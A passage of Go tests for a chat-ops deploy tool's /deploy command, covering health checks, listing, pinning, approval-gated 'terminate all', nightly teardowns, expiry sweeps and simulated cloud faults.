	setup := func(t *testing.T, onFailure string) (*deployHarness, *healthServer) {
		srv := newHealthServer(t)
		h := newDeployHarness(t, deployOpts{spec: func(s *switchboard.DeploySpec) {
			s.Health = &switchboard.HealthCheck{URL: srv.URL + "/healthz?address={{ steps.env.address }}&id={{ steps.env.id }}",
				Timeout: time.Minute, Expect: []int{200}, OnFailure: onFailure}
		}})
		srv.mu.Lock()
		srv.clock = h.clock
		srv.mu.Unlock()
		return h, srv
	}

	t.Run("passes", func(t *testing.T) {
		t.Parallel()
		h, srv := setup(t, "")
		srv.readyAt(t0.Add(pendingFor + 9*time.Second))
		run, o := h.do(devA, "login-fix")
		envs := h.live("")
		if run.State != switchboard.RunSucceeded || len(envs) != 1 {
			t.Fatalf("run is %s with %d environments: %q", run.State, len(envs), o.texts())
		}
		inst := envs[0]
		wantTexts(t, o, "Deploying feature/PROJ-1234-login-fix (a1b2c3d, PR #57) — I'll post the address when it is up.",
			fmt.Sprintf("feature/PROJ-1234-login-fix is up at http://%s (%s), until 13:00 UTC.", inst.PublicIP, inst.ID))
		addrs, ids := srv.checks()
		if len(addrs) < 2 {
			t.Errorf("%d checks, want it checked again after a 503", len(addrs))
		}
		for i := range addrs {
			if addrs[i] != inst.PublicIP || ids[i] != inst.ID {
				t.Errorf("check %d was for %s (%s), want %s (%s)", i, addrs[i], ids[i], inst.PublicIP, inst.ID)
			}
		}
		var vars struct {
			Status int `json:"status"`
		}
		if err := json.Unmarshal(run.Vars["health"], &vars); err != nil || vars.Status != 200 {
			t.Errorf("health outputs %s, %v; want status 200", run.Vars["health"], err)
		}
	})
	for _, onFailure := range []string{"", "terminate", "keep"} {
		name := "fails, on_failure " + onFailure
		if onFailure == "" {
			name = "fails, terminates by default"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h, srv := setup(t, onFailure)
			run, o := h.do(devA, "login-fix")
			addrs, ids := srv.checks()
			if len(ids) < 2 || addrs[0] == "" {
				t.Fatalf("checks for %q at %q; want several", ids, addrs)
			}
			id := ids[0]
			url := fmt.Sprintf("%s/healthz?address=%s&id=%s", srv.URL, addrs[0], id)
			want := url + " did not pass its health check within 1m0s: the last answer was HTTP 503 Service Unavailable."
			if onFailure == "keep" {
				want += " The instance is kept for a look: " + id + "."
			} else {
				want += " I terminated " + id + "."
			}
			if got := o.texts(); len(got) != 2 || got[1] != want {
				t.Errorf("said %q\nwant the deploying notice, then %q", got, want)
			}
			if run.State != switchboard.RunFailed {
				t.Errorf("run is %s, want failed", run.State)
			}
			if d := h.clock.Now().Sub(t0); d < pendingFor+time.Minute || d > pendingFor+time.Minute+poll {
				t.Errorf("gave up %v after the command, want the boot and the timeout", d)
			}
			switch d := h.instance(id); onFailure {
			case "keep":
				if d.State != switchboard.StateRunning || d.PublicIP != addrs[0] {
					t.Errorf("the kept environment is %s at %s", d.State, d.PublicIP)
				}
			default:
				if !gone(d) || !o.has(switchboard.AuditAction, "terminate "+id, "ok") {
					t.Errorf("the environment is %s, audit %+v; want it terminated", d.State, o.audit)
				}
			}
		})
	}
	t.Run("a failed redeploy keeps the old environment", func(t *testing.T) {
		t.Parallel()
		h, srv := setup(t, "")
		srv.readyAt(t0)
		old := h.deployed(devA, "login-fix")
		srv.readyAt(time.Time{})
		run, _ := h.do(devA, "login-fix")
		envs := h.live(loginFix.Name)
		if run.State != switchboard.RunFailed || len(envs) != 1 || envs[0].ID != old.ID {
			t.Errorf("run is %s, environments %+v; want the old one alone", run.State, envs)
		}
	})
}

func TestDeployListTerminatePin(t *testing.T) {
	t.Parallel()
	h := newDeployHarness(t, deployOpts{})

	ack, run := h.start(devA, "list")
	if want := "Listing the environments of /deploy — I'll report back here."; ack.Text != want {
		t.Errorf("ack = %q, want %q", ack.Text, want)
	}
	wantTexts(t, h.finish(run), "No environments are up. Deploy one with `/deploy <branch, ticket or PR>`.")

	a := h.deployed(devA, "login-fix")
	b := h.deployed(devB, "#61")
	h.clock.Advance(2 * time.Hour)
	_, run = h.start(devB, "list")
	wantTexts(t, h.finish(run), fmt.Sprintf("2 environment(s) of /deploy:\n"+
		"• feature/PROJ-1234-login-fix (a1b2c3d, PR #57) — by <@U0DEV1> — up %s — until 13:00 UTC — http://%s (%s)\n"+
		"• feature/PROJ-1240-search (b2c3d4e, PR #61) — by <@U0DEV2> — up %s — until 13:00 UTC — http://%s (%s)",
		upFor(h, a), a.PublicIP, a.ID, upFor(h, b), b.PublicIP, b.ID))

	// Pin within the ceiling, then list it.
	ack, run = h.start(devB, "pin search for 6h customer demo")
	if want := "Pinning search — I'll report back here."; ack.Text != want {
		t.Errorf("ack = %q, want %q", ack.Text, want)
	}
	until := h.clock.Now().Add(6 * time.Hour).UTC()
	o := h.finish(run)
	wantTexts(t, o, "feature/PROJ-1240-search is pinned until "+until.Format("15:04")+" UTC (customer demo); teardowns leave it alone until then.")
	tags := h.instance(b.ID).Tags
	if tags[switchboard.TagPinned] != until.Format(time.RFC3339) || tags[switchboard.TagPinReason] != "customer demo" ||
		tags[switchboard.TagExpires] != until.Format(time.RFC3339) {
		t.Errorf("tags after the pin = %v; want pinned and expiring at %s", tags, until.Format(time.RFC3339))
	}
	if !o.has(switchboard.AuditAction, "pin "+b.ID, "ok") {
		t.Errorf("audit = %+v, want the pin", o.audit)
	}
	_, run = h.start(devA, "list")
	if got := h.finish(run).texts(); len(got) != 1 || !strings.Contains(got[0], "pinned until "+until.Format("15:04")+" UTC (customer demo)") {
		t.Errorf("list = %q, want the pin in it", got)
	}

	// Over the ceiling: refused before any run.
	runs := len(h.book.runs)
	_, _, err := h.command(devB, "/deploy", "pin search for 100h")
	if e := (*switchboard.Error)(nil); !errors.As(err, &e) || e.Message != "A pin lasts at most 72h here; ask for less." {
		t.Errorf("pin for 100h: %v", err)
	}
	if len(h.book.runs) != runs || len(h.book.audit) == 0 || h.book.audit[len(h.book.audit)-1].Outcome != "refused" {
		t.Errorf("a refused pin made %d runs; audit %+v", len(h.book.runs)-runs, h.book.audit)
	}

	// Unpin.
	ack, run = h.start(devB, "unpin search")
	if want := "Unpinning search — I'll report back here."; ack.Text != want {
		t.Errorf("ack = %q, want %q", ack.Text, want)
	}
	wantTexts(t, h.finish(run), "feature/PROJ-1240-search is no longer pinned; it goes at "+until.Format("15:04")+" UTC or the next teardown.")
	tags = h.instance(b.ID).Tags
	if _, ok := tags[switchboard.TagPinned]; ok {
		t.Errorf("tags after the unpin = %v", tags)
	}
	if _, ok := tags[switchboard.TagPinReason]; ok {
		t.Errorf("tags after the unpin = %v", tags)
	}

	// Terminate one; an unknown one is answered.
	ran := upFor(h, a)
	run, o = h.do(devB, "terminate login-fix")
	wantTexts(t, o, "Terminated 1 environment(s): feature/PROJ-1234-login-fix (ran "+ran+").")
	if run.State != switchboard.RunSucceeded || run.Workflow != "deploy.terminate" {
		t.Errorf("run %s is %s, want deploy.terminate succeeded", run.Workflow, run.State)
	}
	if !gone(h.instance(a.ID)) || h.instance(b.ID).State != switchboard.StateRunning {
		t.Errorf("after terminate: %s is %s, %s is %s", a.ID, h.instance(a.ID).State, b.ID, h.instance(b.ID).State)
	}
	if !o.has(switchboard.AuditAction, "terminate "+a.ID, "ok") || o.detail("terminate "+a.ID) != loginFix.Name+": terminated by <@U0DEV2>" {
		t.Errorf("audit = %+v", o.audit)
	}
	run, o = h.do(devB, "terminate nothing-like-this")
	wantTexts(t, o, `No environment is up for "nothing-like-this". `+"`/deploy list` shows what is.")
	if run.State != switchboard.RunFailed {
		t.Errorf("run is %s, want failed", run.State)
	}
}

// upFor is how long an environment has been up, as answers say it: 2h5m,
// 40m, 30s.
func upFor(h *deployHarness, d sim.Detail) string {
	up := h.clock.Now().Sub(d.LaunchTime)
	if up < time.Minute {
		return up.Truncate(time.Second).String()
	}
	return strings.TrimSuffix(up.Truncate(time.Minute).String(), "0s")
}

func TestTerminateAll(t *testing.T) {
	t.Parallel()
	for _, approve := range []bool{true, false} {
		name := "approved"
		if !approve {
			name = "denied"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{seed: []switchboard.Instance{foreign()},
				spec: func(s *switchboard.DeploySpec) {
					s.TerminateAll = &switchboard.ApprovalRule{Approvers: []string{opsUser}}
				}})
			a := h.deployed(devA, "login-fix")
			b := h.deployed(devB, "#61")
			h.finish(func() *switchboard.Run { _, r := h.start(devB, "pin search for 4h"); return r }())

			ack, run := h.start(devA, "terminate all")
			if want := "Terminating every unpinned environment of /deploy needs an approval — I'll ask here."; ack.Text != want {
				t.Errorf("ack = %q, want %q", ack.Text, want)
			}
			o, wait, err := h.step(run)
			if err != nil {
				t.Fatal(err)
			}
			wantTexts(t, o, "<@U0DEV1> wants to terminate every environment of /deploy. Approve?")
			if len(o.msgs) != 1 || o.msgs[0].ApprovalID == "" || run.State != switchboard.RunWaiting || wait <= 0 {
				t.Fatalf("run is %s, messages %+v; want it waiting on an approval", run.State, o.msgs)
			}
			id := o.msgs[0].ApprovalID
			// Still pending: parked again, nothing said or done.
			h.clock.Advance(wait)
			if o, _, err := h.step(run); err != nil || len(o.msgs) != 0 || run.State != switchboard.RunWaiting {
				t.Fatalf("while pending: %s, said %q, %v", run.State, o.texts(), err)
			}
			decide := &engine.Approvals{Store: h.approvals, NowFunc: h.clock.Now}
			if _, reply, err := decide.Decide(context.Background(), id, devA, true, "slack"); err != nil || reply != "You are not one of the approvers of this request." {
				t.Errorf("the requester's own approval: %q, %v", reply, err)
			}
			if _, _, err := decide.Decide(context.Background(), id, opsUser, approve, "slack"); err != nil {
				t.Fatal(err)
			}
			ran := upFor(h, a)
			o = h.finish(run)
			if approve {
				wantTexts(t, o, "Terminated 1 environment(s): feature/PROJ-1234-login-fix (ran "+ran+"). Kept, pinned: feature/PROJ-1240-search.")
				if !gone(h.instance(a.ID)) || run.State != switchboard.RunSucceeded {
					t.Errorf("run is %s, %s is %s", run.State, a.ID, h.instance(a.ID).State)
				}
			} else {
				wantTexts(t, o, "Not terminating the environments of /deploy: denied by <@U0OPS1>.")
				if gone(h.instance(a.ID)) || run.State != switchboard.RunFailed || h.calls("TerminateInstances") != 0 {
					t.Errorf("run is %s, %s is %s", run.State, a.ID, h.instance(a.ID).State)
				}
			}
			if gone(h.instance(b.ID)) || h.instance(idForeign).State != switchboard.StateRunning {
				t.Errorf("the pinned one is %s, the foreign one %s; want both running", h.instance(b.ID).State, h.instance(idForeign).State)
			}
		})
	}
}

func TestTeardown(t *testing.T) {
	t.Parallel()
	t.Run("warns, then tears down", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{seed: []switchboard.Instance{foreign()}, warn: 15 * time.Minute,
			spec: func(s *switchboard.DeploySpec) { s.Lifetime = 10 * time.Hour }})
		a := h.deployed(devA, "login-fix")
		b := h.deployed(devB, "#61")
		h.clock.Advance(3 * time.Hour)
		c := h.deployed(devA, "cart-crash")
		h.finish(func() *switchboard.Run { _, r := h.start(devB, "pin search for 8h demo"); return r }())
		h.clock.Advance(16*time.Hour + 45*time.Minute - h.clock.Now().Sub(t0.Truncate(24*time.Hour)))

		run := h.schedule("/deploy.teardown")
		o, wait, err := h.step(run)
		if err != nil {
			t.Fatal(err)
		}
		wantTexts(t, o, "In 15m I'll tear down feature/PROJ-1234-login-fix, hotfix/cart-crash. Keep one with `/deploy pin <branch> for 4h`.")
		if wait != 15*time.Minute || run.State != switchboard.RunWaiting || o.msgs[0].ChannelID != deployChannel {
			t.Fatalf("run is %s with wait %v, message %+v; want it parked 15m", run.State, wait, o.msgs)
		}
		if n := len(h.live("")); n != 3 || h.calls("TerminateInstances") != 0 {
			t.Fatalf("%d environments during the warning; want all 3", n)
		}
		h.clock.Advance(wait)
		ranA, ranC := upFor(h, a), upFor(h, c)
		o = h.finish(run)
		wantTexts(t, o, "Teardown: 2 environment(s): feature/PROJ-1234-login-fix (ran "+ranA+"), hotfix/cart-crash (ran "+ranC+"). Kept, pinned: feature/PROJ-1240-search.")
		if ranA != "8h0m" {
			t.Errorf("login-fix ran %s, want 8h0m: from 09:00 to 17:00", ranA)
		}
		if !gone(h.instance(a.ID)) || !gone(h.instance(c.ID)) || gone(h.instance(b.ID)) {
			t.Errorf("after the teardown: %s %s, %s %s, %s %s", a.ID, h.instance(a.ID).State, b.ID, h.instance(b.ID).State, c.ID, h.instance(c.ID).State)
		}
		if d := h.instance(idForeign); d.State != switchboard.StateRunning {
			t.Errorf("the instance without the ownership tag is %s", d.State)
		}
		if !o.has(switchboard.AuditAction, "terminate "+a.ID, "ok") || o.detail("terminate "+a.ID) != loginFix.Name+": nightly teardown" {
			t.Errorf("audit = %+v", o.audit)
		}
		if run.State != switchboard.RunSucceeded || !o.has(switchboard.AuditRun, "/deploy.teardown", "succeeded") {
			t.Errorf("run is %s, audit %+v", run.State, o.audit)
		}
	})
	t.Run("a pin during the warning keeps it", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{warn: 15 * time.Minute})
		a := h.deployed(devA, "login-fix")
		run := h.schedule("/deploy.teardown")
		_, wait, err := h.step(run)
		if err != nil {
			t.Fatal(err)
		}
		h.finish(func() *switchboard.Run { _, r := h.start(devA, "pin login-fix for 2h"); return r }())
		h.clock.Advance(wait)
		wantTexts(t, h.finish(run), "Nothing to tear down. Kept, pinned: feature/PROJ-1234-login-fix.")
		if gone(h.instance(a.ID)) {
			t.Errorf("the pinned environment is %s", h.instance(a.ID).State)
		}
	})
	t.Run("without a warning", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{seed: []switchboard.Instance{foreign()}})
		a := h.deployed(devA, "login-fix")
		run := h.schedule("/deploy.teardown")
		o, wait, err := h.step(run)
		if err != nil || wait != 0 || run.State != switchboard.RunSucceeded {
			t.Fatalf("run is %s, wait %v, %v; want it done at once", run.State, wait, err)
		}
		wantTexts(t, o, "Teardown: 1 environment(s): feature/PROJ-1234-login-fix (ran "+upFor(h, a)+").")
		if h.instance(idForeign).State != switchboard.StateRunning {
			t.Errorf("the foreign instance is %s", h.instance(idForeign).State)
		}
	})
	t.Run("nothing up", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{seed: []switchboard.Instance{foreign()}, warn: 15 * time.Minute})
		o := h.finish(h.schedule("/deploy.teardown"))
		wantTexts(t, o, "Nothing to tear down.")
		if h.calls("TerminateInstances") != 0 {
			t.Errorf("TerminateInstances called %d times", h.calls("TerminateInstances"))
		}
	})
}

func TestSweep(t *testing.T) {
	t.Parallel()
	h := newDeployHarness(t, deployOpts{seed: []switchboard.Instance{foreign()}})
	a := h.deployed(devA, "login-fix")  // 09:00, until 13:00
	c := h.deployed(devB, "cart-crash") // 09:00, until 13:00, pinned at 12:00 until 14:00
	h.clock.Advance(2 * time.Hour)
	b := h.deployed(devB, "#61") // 11:00, until 15:00
	h.clock.Advance(time.Hour)
	h.finish(func() *switchboard.Run { _, r := h.start(devB, "pin cart-crash for 2h"); return r }())

	// 12:30: nothing has expired, and nothing is said.
	h.clock.Advance(30 * time.Minute)
	run := h.schedule("/deploy.sweep")
	o := h.finish(run)
	wantTexts(t, o)
	if run.State != switchboard.RunSucceeded || run.Result != "Nothing expired." || h.calls("TerminateInstances") != 0 {
		t.Errorf("run is %s (%q), %d terminations", run.State, run.Result, h.calls("TerminateInstances"))
	}

	// 13:30: login-fix expired; cart-crash is pinned.
	h.clock.Advance(time.Hour)
	ran := upFor(h, a)
	o = h.finish(h.schedule("/deploy.sweep"))
	wantTexts(t, o, "Expired: 1 environment(s): feature/PROJ-1234-login-fix (ran "+ran+").")
	if !gone(h.instance(a.ID)) || gone(h.instance(b.ID)) || gone(h.instance(c.ID)) {
		t.Errorf("after the sweep: %s %s, %s %s, %s %s", a.ID, h.instance(a.ID).State, b.ID, h.instance(b.ID).State, c.ID, h.instance(c.ID).State)
	}
	if !o.has(switchboard.AuditAction, "terminate "+a.ID, "ok") || o.detail("terminate "+a.ID) != loginFix.Name+": expired" {
		t.Errorf("audit = %+v", o.audit)
	}

	// 14:30: the pin is over, and so is cart-crash's time.
	h.clock.Advance(time.Hour)
	o = h.finish(h.schedule("/deploy.sweep"))
	if got := o.texts(); len(got) != 1 || !strings.HasPrefix(got[0], "Expired: 1 environment(s): hotfix/cart-crash (ran ") {
		t.Errorf("said %q, want cart-crash expired", got)
	}
	if !gone(h.instance(c.ID)) || gone(h.instance(b.ID)) {
		t.Errorf("after the sweep: %s %s, %s %s", b.ID, h.instance(b.ID).State, c.ID, h.instance(c.ID).State)
	}
	if d := h.instance(idForeign); d.State != switchboard.StateRunning {
		t.Errorf("the instance without the ownership tag, long past its expires tag, is %s", d.State)
	}
}

// Terminating an instance that is already gone counts as done, and does
// not keep the others of the same call from being terminated: on the bare
// simulator a gone id fails the whole call (as on EC2), through the fleet
// layer it comes back as a partial failure.
func TestTerminateGone(t *testing.T) {
	t.Parallel()
	notFound := func(id string) error {
		return &switchboard.CloudError{Code: "InvalidInstanceID.NotFound", Message: fmt.Sprintf("The instance ID '%s' does not exist", id),
			Kind: switchboard.ENOTFOUND, IDs: []string{id}}
	}
	for _, layer := range []string{"bare", "fleet"} {
		wrap := func(h *deployHarness) {
			if layer == "fleet" {
				noLimit := fleetlayer.Bucket{PerSecond: -1}
				h.runner.Providers["main"] = fleetlayer.Wrap(h.cloud, fleetlayer.Options{
					Limits:  fleetlayer.Limits{Describe: noLimit, Mutate: noLimit, Start: noLimit, Terminate: noLimit},
					NowFunc: h.clock.Now, SleepFunc: func(_ context.Context, d time.Duration) error { h.clock.Advance(d); return nil },
				})
			}
		}
		t.Run(layer+"/terminate one", func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{})
			wrap(h)
			a := h.deployed(devA, "login-fix")
			h.cloud.InjectFault(sim.Fault{Action: "TerminateInstances", IDs: []string{a.ID}, Err: notFound(a.ID)})
			run, o := h.do(devA, "terminate login-fix")
			wantTexts(t, o, "Terminated 1 environment(s): feature/PROJ-1234-login-fix (ran "+upFor(h, a)+").")
			if run.State != switchboard.RunSucceeded {
				t.Errorf("run is %s", run.State)
			}
		})
		t.Run(layer+"/teardown", func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{})
			wrap(h)
			a := h.deployed(devA, "login-fix")
			b := h.deployed(devB, "#61")
			h.cloud.InjectFault(sim.Fault{Action: "TerminateInstances", IDs: []string{a.ID}, Err: notFound(a.ID)})
			run := h.schedule("/deploy.teardown")
			o := h.finish(run)
			if got := o.texts(); len(got) != 1 || !strings.HasPrefix(got[0], "Teardown: 2 environment(s): ") || run.State != switchboard.RunSucceeded {
				t.Errorf("run is %s, said %q", run.State, got)
			}
			if d := h.instance(b.ID); !gone(d) {
				t.Errorf("%s, terminated in the same call as a gone one, is %s", b.ID, d.State)
			}
		})
		t.Run(layer+"/replaced", func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{})
			wrap(h)
			old := h.deployed(devA, "login-fix")
			h.cloud.InjectFault(sim.Fault{Action: "TerminateInstances", IDs: []string{old.ID}, Err: notFound(old.ID)})
			run, o := h.do(devA, "login-fix")
			if run.State != switchboard.RunSucceeded || len(o.msgs) != 2 || !strings.HasSuffix(o.msgs[1].Text, "It replaces "+old.ID+", which I terminated.") {
				t.Errorf("run is %s, said %q", run.State, o.texts())
			}
		})
	}
}

// A deploy step whose cloud left the config ends its run with a sentence.
func TestDeployCloudGone(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"list", "terminate login-fix", "pin login-fix", "unpin login-fix", "terminate all"} {
		t.Run(text, func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{})
			_, run := h.start(devA, text)
			run.Cloud = "old"
			o := h.finish(run)
			wantTexts(t, o, `The cloud "old" is not configured any more; nothing was done.`)
			if run.State != switchboard.RunFailed {
				t.Errorf("run is %s", run.State)
			}
		})
	}
	for _, wf := range []string{"/deploy.teardown", "/deploy.sweep"} {
		t.Run(wf, func(t *testing.T) {
			t.Parallel()
			h := newDeployHarness(t, deployOpts{})
			run := h.schedule(wf)
			run.Cloud = "old"
			wantTexts(t, h.finish(run), `The cloud "old" is not configured any more; nothing was done.`)
		})
	}
}

// privateOnly is a cloud whose instances have no public address, like a
// private subnet's.
type privateOnly struct{ switchboard.Provider }

func (p privateOnly) DescribeInstances(ctx context.Context, f switchboard.Filter) ([]switchboard.Instance, error) {
	insts, err := p.Provider.DescribeInstances(ctx, f)
	for i := range insts {
		insts[i].PublicIP = ""
	}
	return insts, err
}

// lagging is a cloud that, like EC2 right after a launch, does not know a
// new instance by its id the first few times it is asked.
type lagging struct {
	switchboard.Provider
	mu    sync.Mutex
	times int
}

func (l *lagging) DescribeInstances(ctx context.Context, f switchboard.Filter) ([]switchboard.Instance, error) {
	l.mu.Lock()
	lag := len(f.IDs) > 0 && l.times > 0
	if lag {
		l.times--
	}
	l.mu.Unlock()
	if lag {
		return nil, &switchboard.CloudError{Code: "InvalidInstanceID.NotFound", Message: fmt.Sprintf("The instance ID '%s' does not exist", f.IDs[0]),
			Kind: switchboard.ENOTFOUND, IDs: f.IDs}
	}
	return l.Provider.DescribeInstances(ctx, f)
}

func TestDeployOnRealClouds(t *testing.T) {
	t.Parallel()
	t.Run("private address", func(t *testing.T) {
		t.Parallel()
		srv := newHealthServer(t)
		h := newDeployHarness(t, deployOpts{spec: func(s *switchboard.DeploySpec) {
			s.Health = &switchboard.HealthCheck{URL: srv.URL + "/healthz?address={{ steps.env.address }}", Timeout: time.Minute}
		}})
		srv.mu.Lock()
		srv.clock = h.clock
		srv.mu.Unlock()
		srv.readyAt(t0)
		h.runner.Providers["main"] = privateOnly{h.cloud}
		run, o := h.do(devA, "login-fix")
		inst := h.live("")[0]
		if addrs, _ := srv.checks(); len(addrs) != 1 || addrs[0] != inst.PrivateIP {
			t.Errorf("checked %q, want the private address %s", addrs, inst.PrivateIP)
		}
		if run.State != switchboard.RunSucceeded || !strings.Contains(run.Result, "is up at http://"+inst.PrivateIP+" ("+inst.ID+")") {
			t.Errorf("run is %s, said %q", run.State, o.texts())
		}
	})
	t.Run("not known by its id at once", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		h.runner.Providers["main"] = &lagging{Provider: h.cloud, times: 2}
		run, o := h.do(devA, "login-fix")
		if run.State != switchboard.RunSucceeded || len(h.live("")) != 1 {
			t.Errorf("run is %s, said %q; want it up", run.State, o.texts())
		}
	})
	t.Run("never known", func(t *testing.T) {
		t.Parallel()
		h := newDeployHarness(t, deployOpts{})
		h.runner.Providers["main"] = &lagging{Provider: h.cloud, times: 1 << 20}
		run, o := h.do(devA, "login-fix")
		id := h.live("")[0].ID
		if got := o.texts(); run.State != switchboard.RunFailed || len(got) != 2 || got[1] != "deploy-feature-PROJ-1234-login-fix ("+id+") did not start: it is gone." {
			t.Errorf("run is %s, said %q", run.State, got)
		}
	})
}

// The demo's deploy (config/default.yaml) runs as configured, and the
// workflows config makes of its schedules are the ones the harness runs.
func TestDeployDemoConfig(t *testing.T) {
	t.Parallel()
	reg := switchboard.NewRegistry(append(steps.Builtin(), steps.Deploys(&switchboard.BranchSources{})...)...)
	reg.AddCloud(sim.Type)
	cfg := config.Default("", reg)
	d, ok := cfg.Deploy("/deploy")
	if !ok {
		t.Fatal("the demo has no /deploy")
	}
	for _, want := range scheduleWorkflows(d.DeploySpec, d.Warn) {
		i := slices.IndexFunc(cfg.Workflows, func(w switchboard.WorkflowSpec) bool { return w.Name == want.Name })
		if i < 0 {
			t.Errorf("config makes no workflow %s", want.Name)
			continue
		}
		got := cfg.Workflows[i]
		if got.Cloud != want.Cloud || got.Channel != want.Channel || got.Trigger.Schedule == nil || got.Trigger.Schedule.Lead != want.Trigger.Schedule.Lead {
			t.Errorf("%s: cloud %s, channel %s, schedule %+v", got.Name, got.Cloud, got.Channel, got.Trigger.Schedule)
		}
		gotPlan, wantPlan := engine.Plan(got), engine.Plan(want)
		if len(gotPlan) != 1 || len(wantPlan) != 1 || gotPlan[0].Kind != wantPlan[0].Kind || !sameJSON(gotPlan[0].With, wantPlan[0].With) {
			t.Errorf("%s: plan %+v\nwant %+v", got.Name, gotPlan, wantPlan)
		}
	}

	h := newDeployHarness(t, deployOpts{spec: func(s *switchboard.DeploySpec) { *s = d.DeploySpec }, warn: d.Warn})
	user := d.Access.Users[0]
	inst := h.deployed(user, "login-fix")
	wantData := "#cloud-config\nruncmd:\n  - echo \"deploying " + loginFix.Name + " at " + loginFix.Commit + " for " + user + "\"\n"
	if inst.UserData != wantData || inst.Type != "t3.small" || inst.Tags[switchboard.TagExpires] != "2026-03-02T17:00:00Z" {
		t.Errorf("launched %s expiring %s with user data %q\nwant t3.small expiring at 17:00 with %q", inst.Type, inst.Tags[switchboard.TagExpires], inst.UserData, wantData)
	}
}

func sameJSON(a, b json.RawMessage) bool {
	var x, y any
	return json.Unmarshal(a, &x) == nil && json.Unmarshal(b, &y) == nil && reflect.DeepEqual(x, y)
}
